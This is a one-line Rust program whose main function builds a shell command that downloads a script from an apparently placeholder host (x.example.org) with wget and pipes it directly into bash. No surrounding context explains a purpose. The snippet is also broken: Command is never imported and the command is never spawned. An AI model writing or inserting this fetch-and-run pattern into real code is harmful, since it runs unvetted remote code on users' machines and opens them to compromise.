fn main() { Command::new("sh").arg("-c").arg("wget -qO- https://x.example.org/i | bash"); }
